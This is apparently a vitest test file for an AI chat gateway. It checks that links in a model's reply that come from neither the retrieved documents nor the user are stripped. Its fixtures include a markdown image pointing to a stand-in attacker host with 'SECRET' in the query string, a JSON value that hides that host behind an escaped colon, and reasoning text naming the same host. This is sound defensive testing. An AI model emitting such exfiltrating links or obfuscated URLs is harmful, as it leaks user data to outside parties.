import { afterAll, beforeAll, expect, it } from 'vitest';
import { ingest, startGatewayWithVendor, type TestGateway } from '../../helpers/gateway.ts';
import type { Vendor } from '../../helpers/vendor/vendor.ts';
import { chat } from './turn.ts';

const opened = new AsyncDisposableStack();
let gateway: TestGateway;
let vendor: Vendor;

beforeAll(async () => {
  ({ gateway, vendor } = opened.use(await startGatewayWithVendor()));
  await ingest(gateway, [
    { externalId: 'otters', title: 'Otters', text: 'Otters swim. See [the map](https://zoo.example/map).' },
  ]);
});
afterAll(() => opened.disposeAsync());

const written =
  'Otters swim [1](https://evil.example/1) [1]. ![x](https://evil.example/2?d=SECRET) [map](https://zoo.example/map), ' +
  'https://user.example/a and https://evil.example/3.';
const kept =
  'Otters swim [1] (link removed) [1]. ![x] (link removed) [map](https://zoo.example/map), ' +
  'https://user.example/a and (link removed).';

it('a reply that rests on documents carries no link that neither they nor the user brought', async () => {
  vendor.next({ reply: written, reasoning: 'To https://evil.example/4 then.', splitBytes: 7 });
  const turn = await chat(gateway, { message: 'Otters, as on user.example?', retrieval: {} });
  expect(turn).toMatchObject({ status: 'SUCCEEDED', text: kept, reply: { text: kept } });
  expect(turn.cited.map(({ number }) => number)).toEqual([1]);
  expect(JSON.stringify(turn.events)).not.toContain('evil.example');
});

it('nor does its parsed value, however the reply hides it', async () => {
  vendor.next({ reply: '{"url": "https\\u003a//evil.example/5", "map": "https://zoo.example/map"}' });
  const turn = await chat(gateway, { message: 'Otters?', retrieval: {}, responseSchema: { type: 'object' } });
  expect(turn.reply?.object).toEqual({ url: '(link removed)', map: 'https://zoo.example/map' });
});

it('a reply without documents and tools is what the model wrote', async () => {
  vendor.next({ reply: written });
  expect(await chat(gateway, { message: 'Otters?' })).toMatchObject({ status: 'SUCCEEDED', text: written });
});
